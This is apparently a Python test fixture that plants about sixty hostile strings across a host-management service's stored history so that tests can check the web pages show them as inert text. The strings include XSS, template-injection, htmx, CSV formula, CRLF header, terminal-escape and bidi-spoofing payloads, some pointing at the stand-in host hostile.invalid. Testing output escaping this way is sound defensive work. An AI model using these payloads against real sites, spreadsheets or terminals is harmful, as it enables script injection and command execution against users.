"""Texts that somebody hostile would put where a page shows them, and a world that is full of them.

Each one has a mark of its own, `hostile07`. What it tries is harmless: an element `x-hostile`, a global `hostile`, a
dialog, a request to `hostile.invalid`. Rendered as a text, the mark is read and nothing of that happens.
"""

from service.model.changes import Difference, Drift
from service.model.facts import Step
from service.model.observed import Lease
from service.model.plans import Plan
from service.model.runs import HostStatus
from service.model.trees import Commit
from tests.api.world import COMMIT, NOW, World

_TRIES = (
    "<x-hostile>", "</title><x-hostile>", "</td></tr></table><x-hostile>", "</textarea><x-hostile>",
    "</code></pre><x-hostile>", "</option></select><x-hostile>", "</script><x-hostile>", "</style><x-hostile>",
    "<!-- <x-hostile>", "--><x-hostile>", "]]><x-hostile>", "<![CDATA[<x-hostile>]]>",
    "<script>hostile=1</script>", "<script src=//hostile.invalid/x></script>", "<ScRiPt>alert(1)</sCrIpT>",
    "<img src=x onerror=hostile=1>", "<img src=//hostile.invalid/x>", "<svg onload=hostile=1>",
    "<svg><script>hostile=1</script></svg>", "</svg><x-hostile>", "</text><x-hostile/>", "</desc><x-hostile/>",
    "<iframe src=//hostile.invalid>", "<iframe srcdoc='<script>parent.hostile=1</script>'>",
    "<object data=//hostile.invalid>", "<embed src=//hostile.invalid>", "<base href=//hostile.invalid>",
    "<meta http-equiv=refresh content='0;url=//hostile.invalid'>", "<link rel=stylesheet href=//hostile.invalid>",
    "<form action=//hostile.invalid><input name=token>", "<a href=javascript:hostile=1>x</a>",
    '" onmouseover="hostile=1" x="', "' onfocus='hostile=1' autofocus x='", '"><x-hostile a="', "'><x-hostile a='",
    "` onclick=hostile=1 x=`", "javascript:hostile=1//", "data:text/html,<x-hostile>", "{{ 7*7 }}{% raw %}", "${7*7}",
    "&lt;x-hostile&gt;&#60;x-hostile&#62;", "\\u003cx-hostile\\u003e", "\uff1cx-hostile\uff1e",
    '<div hx-get="//hostile.invalid/x" hx-trigger="load">', '<b hx-on:load="hostile=1">',
    "=HYPERLINK(\"//hostile.invalid\")", "+1+cmd|' /C calc'!A0", "@SUM(1)", "%0d%0aSet-Cookie:%20hostile=1",
    "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x1b]8;;//hostile.invalid\x1b\\link", "\x9b31m", "a\rb", "a\x08b",
    "\u202egnp.exe", "\u2066x\u2069\u202d", "\u200b\u200d\ufeff", "\u2028line\u2029", "a\u0301\u0301\u0301", "\ufffe",
)  # fmt: skip
TEXTS = tuple(f"hostile{number:02} {text}" for number, text in enumerate(_TRIES))

HIDDEN = frozenset("\x1b\x07\x08\x9b\u202e\u202d\u2066\u2069\u200b\u200d\ufeff\u2028\u2029\ufffe")
"""Characters that no page has in it: each is written so that people see it."""


def plant(world: World) -> None:
    """All of them wherever the history has words of others: commits, hosts' answers, guests, people."""
    store = world.history.store
    for number, text in enumerate(TEXTS):
        commit = f"{number:040x}"
        store.record_revision(Commit(commit, text, text, NOW, text), at=NOW, findings=[{"rule": text, "what": text}])
        store.seen_leases("pve2", [Lease(f"bc:24:11:00:01:{number:02x}", f"10.20.0.{number}", text, 0, text)], at=NOW)
    store.refuse_revision(Commit("d" * 40, TEXTS[0], TEXTS[0], NOW, TEXTS[0]), reason=" ".join(TEXTS), at=NOW)
    store.set_drift("pve1", [drift for text in TEXTS for drift in _drifts(text)], at=NOW)
    for text in TEXTS:
        _one_after_the_other(world, text)
    everything = "\n".join(TEXTS)
    store.set_host_status(
        HostStatus(
            "pve1", address=everything, sync="OutOfSync", reason="Drifted", reachability="Reachable", observed_at=NOW,
            message=everything, console=everything, drift_items=2 * len(TEXTS), health="Degraded",
        ),
        at=NOW,
    )  # fmt: skip
    store.record_plan(
        Plan(
            "pve1", COMMIT, "sha256:d9", notes=TEXTS, cut=TEXTS, raises=TEXTS, at_boot=TEXTS, ailing=TEXTS,
            derived=tuple((text, text) for text in TEXTS), drifts=tuple(_drifts(everything)),
            steps=tuple(Step(f"file:/etc/{number}", text, text, text, text) for number, text in enumerate(TEXTS)),
        ),
        at=NOW,
    )  # fmt: skip
    world.desk.odd = everything


def _drifts(text: str) -> tuple[Drift, ...]:
    return (
        Drift(Difference("bridges", text, text, "live", "changed", text, [text], cause=text), "host"),
        Drift(Difference("files", text, text, "file", "changed", {text: text}, text, unknown=text), "both"),
    )


def _one_after_the_other(world: World, text: str) -> None:
    """What a person or a host says once for each event: reasons, errors."""
    store = world.history.store
    apply_id = store.open_apply(
        "pve1", plan_id=world.plan_id(), commit=COMMIT, plan_digest="sha256:p", desired_digest="sha256:d",
        trigger="push", requested_by=text, at=NOW,
    )  # fmt: skip
    store.start_apply(apply_id, generation=store.next_generation("pve1"), planned=[(text, text)], at=NOW)
    store.move_step(apply_id, 0, "failed", at=NOW, error=text)
    store.finish_apply(apply_id, "RolledBack", at=NOW, cause="checks", error=text)
    store.latch("pve1", "sha256:bad", apply_id=apply_id, at=NOW)
    store.clear_latch("pve1", by=text, reason=text, at=NOW)
    held = store.suspend("host", "pve1", text, by=text, at=NOW, until=None)
    store.end_suspension(held.id, by=text, at=NOW)
